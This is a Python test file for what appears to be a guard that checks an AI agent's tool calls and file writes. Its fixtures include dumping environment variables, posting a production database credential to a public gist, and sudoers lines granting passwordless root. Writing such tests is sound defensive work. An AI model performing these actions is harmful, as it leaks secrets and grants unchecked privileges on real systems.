def test_a_program_a_tool_runs_is_not_the_environment_it_sends():
    readings = {"supervise_readings": [{"as": "shell", "parameters": ["code"], "by": "name"}]}
    ran = tool_call("jupyter_execute", {"code": "import os; print(os.environ)"}, readings)
    assert build(PAYLOAD_CONFIG).evaluate(ran, CTX).verdict is Verdict.OK
    sent = tool_call("jupyter_execute", {"code": "x", "note": "${process.env}"}, readings)
    assert build(PAYLOAD_CONFIG).evaluate(sent, CTX).verdict is Verdict.BLOCK


def test_an_mcp_tool_typed_by_its_name_without_that_types_fields_is_read_whole():
    gist = Action(
        type="git",
        tool="mcp__github__create_gist",
        args={
            "public": True,
            "files": {
                "env.txt": {"content": "DATABASE_URL=postgres://billing:Pz7xqW9vLm2@db.prod:5432/b"}
            },
        },
    )
    assert build().evaluate(gist, Context()).verdict is Verdict.BLOCK
    # a git action with its own fields is read by them, as before
    clone = Action(type="git", tool="mcp__git__clone", args={"url": "https://github.com/acme/shop"})
    assert build().evaluate(clone, Context()).verdict is Verdict.OK


@pytest.mark.parametrize(
    "line",
    [
        "deploy ALL=(root) NOPASSWD: /bin/systemctl restart orders-api\n",
        "%ops ALL=(ALL:ALL) SETENV: NOPASSWD: ALL\n",
        "ci ALL = PASSWD: /usr/bin/apt-get update\n",
    ],
)
def test_a_sudoers_tag_is_no_password(line: str) -> None:
    result = build().evaluate(write("/etc/sudoers.d/deploy", line), CTX)
    assert result.verdict is Verdict.OK, result.reason


def test_a_password_after_a_passwd_name_is_still_found() -> None:
    result = build().evaluate(write("config/app.env", f"DB_PASSWD={RANDOM}\n"), CTX)
    assert result.verdict is Verdict.BLOCK
